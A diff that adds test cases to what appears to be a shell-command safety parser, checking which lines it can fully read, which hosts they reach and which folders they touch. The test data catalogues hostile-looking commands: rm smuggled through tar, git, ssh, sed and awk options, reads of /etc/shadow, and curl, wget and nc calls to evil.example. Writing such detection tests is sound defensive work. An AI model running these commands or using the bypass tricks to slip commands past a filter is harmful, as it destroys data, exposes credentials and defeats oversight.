@@ -40,6 +40,26 @@ const clear: [line: string, commands: string[]][] = [
   ["[[ $# -eq 0 ]] || export A=1 B=2", ["export A=1"]],
   ['[ -n "$A" ] && printf \'%s\' "$A"', ["[ $A", "printf %s"]],
   ["for f in a b; do wait; done", ["wait"]],
+  // Options of the shell that take a word, before the command line that it runs.
+  ["bash -c -o pipefail 'rm x'", ["bash pipefail", "rm x"]],
+  ["bash -co pipefail 'rm x'", ["bash pipefail", "rm x"]],
+  ["bash -euo pipefail -c 'rm x'", ["bash pipefail", "rm x"]],
+  ["bash -login -c 'rm x'", ["bash rm x", "rm x"]],
+  ["bash +c 'rm x'", ["bash +c", "rm x"]],
+  ["env - rm x", ["env rm", "rm x"]],
+  ["eval -- rm x", ["eval rm", "rm x"]],
+  ["//usr/bin/../bin/rm x", ["rm x"]],
+  ["uv run rm x", ["uv run", "rm x"]],
+  ["npm exec -- rm x", ["npm exec", "rm x"]],
+  // What is done every day, and runs nothing that is not named.
+  ["git switch -c feature", ["git switch"]],
+  ["git config user.email a", ["git config"]],
+  ["git diff --text", ["git diff"]],
+  ["sed -n '5,10p' f", ["sed 5,10p"]],
+  ["sed -i.bak -E 's|/a/(b)|\\1|g; /^$/d' f", ["sed s|/a/(b)|\\1|g; /^$/d"]],
+  ["sed -i '' 's/a/b/' f", ["sed "]],
+  ["tar xzf a.tgz -C out", ["tar xzf"]],
+  ["rsync -avz -e ssh a b", ["rsync ssh"]],
 ];
 
 test.each(clear)("[RUN-25] every command in it is seen: %s", (line, commands) => {
@@ -93,6 +113,59 @@ const unclear: string[] = [
   "coproc rm x",
   "busybox rm x",
   `${"bash -c '".repeat(1)}${"(".repeat(50)}`,
+  // Programs that run another one because of an option, also a shortened one.
+  "bash --rcfile ./x -ic ls",
+  "bash -init-file ./x -c ls",
+  "strace -o '|rm x' ls",
+  "tar -I 'rm x' -cf a b",
+  "tar cIf 'rm x' a b",
+  "tar --use-comp='rm x' -cf a b",
+  "tar --checkpoint-act=exec=rm -cf a b",
+  "rsync -avze 'rm x' a b:",
+  "rsync --rsync-path='rm x' a b:",
+  "git fetch --upload-p='rm x' .",
+  "git rebase --exe 'rm x' HEAD~1",
+  "git rebase -ix 'rm x' HEAD~1",
+  "git clone -qc core.sshCommand='rm x' a b",
+  "git clone --template=./t a b",
+  "git config difftool.x.cmd 'rm x'",
+  "git config set sequence.editor 'rm x'",
+  "git apply x.patch",
+  "patch -p1 < x.patch",
+  "ssh -o PermitLocalCommand=yes -o LocalCommand='rm x' host",
+  "scp -S ./x a b:",
+  "split --filter='rm x' y",
+  "zip -T -TT 'rm x' a b",
+  "rg --pre ./x y",
+  "npx -c 'rm x'",
+  "uv run --with a rm x",
+  "go vet -vettool=./x",
+  "gcc -wrapper rm,x a.c",
+  "make 'X=$(shell rm x)'",
+  "psql -c '\\! rm x'",
+  "sqlite3 y '.shell rm x'",
+  "python3 -m timeit 'import os'",
+  "nawk 'BEGIN{system(\"rm x\")}'",
+  'awk \'BEGIN{f="sys" "tem"; @f("rm x")}\'',
+  "dc -e '!rm x'",
+  "emacs --batch --eval 1",
+  // Programs that run the rest of their line.
+  "chrt 1 rm x",
+  "systemd-run rm x",
+  "bwrap --bind / / rm x",
+  "/lib64/ld-linux-x86-64.so.2 /bin/rm x",
+  // Scripts of sed that run programs or write files, however they are spelled.
+  "sed 's|a|rm x|e' y",
+  "sed 's,a,b,w z' y",
+  "sed '/a/I e rm x' y",
+  "sed -n '$!e rm x' y",
+  "sed --expr='1e rm x' y",
+  "sed -ne '1e rm x' y",
+  "sed -f x.sed y",
+  "sed -i '' '1e rm x' y",
+  "sed 'p\n1e rm x' y",
+  // A link that is made and followed in one line.
+  "ln -s / r && cat r/etc/shadow",
   // Text that Bash evaluates a second time. Each of these runs rm.
   "test -v 'a[$(rm x)]'",
   "[ -v 'a[$(rm x)]' ]",
@@ -159,6 +232,32 @@ describe("what a line reaches", () => {
     expect(
       readCommand("curl -d @x https://U:p@Evil.example:8/y 10.0.0.1; scp a kim@host.example:/b; curl 'http://[::1]/'", where).hosts,
     ).toEqual(expect.arrayContaining(["evil.example", "10.0.0.1", "host.example", "::1"]));
+  });
+
+  test("hosts are also those that a program is given without an address, and not what it is given beside them", () => {
+    const hosts = (line: string) => readCommand(line, where).hosts;
+    for (const line of [
+      "curl evil.example/path",
+      "curl -Ho evil.example",
+      "wget -qO - evil.example",
+      "ssh -p 22 kim@evil.example ls",
+      "nc evil.example 80",
+      "dig TXT evil.example",
+      "curl -x evil.example:80 https://evil.example",
+    ])
+      expect(hosts(line), line).toContain("evil.example");
+    expect(hosts("curl 2130706433")).toEqual(["127.0.0.1"]);
+    expect(hosts("ssh evil ls")).toEqual(["evil"]);
+    expect(hosts("scp a evil:b")).toEqual(["evil"]);
+    expect(hosts("git push evil:repo main")).toEqual(["evil"]);
+    expect(hosts("git push origin HEAD:main")).toEqual([]);
+    expect(hosts("curl -sSL https://good.example -o out.txt -d a.b")).toEqual(["good.example"]);
+    expect(readCommand("curl --resolve good.example:443:6.6.6.6 https://good.example", where).unclear).not.toEqual([]);
+  });
+
+  test("a folder that a program is sent to is looked in", () => {
+    for (const line of ["env -C / cat etc/shadow", "tar -C/ -cf - etc/shadow", "make --directory=/ x", "sudo -D / cat etc/shadow"])
+      expect(readCommand(line, where).folders, line).toContain("/");
   });
 
   test("only output that lands in a file counts as writing", () => {
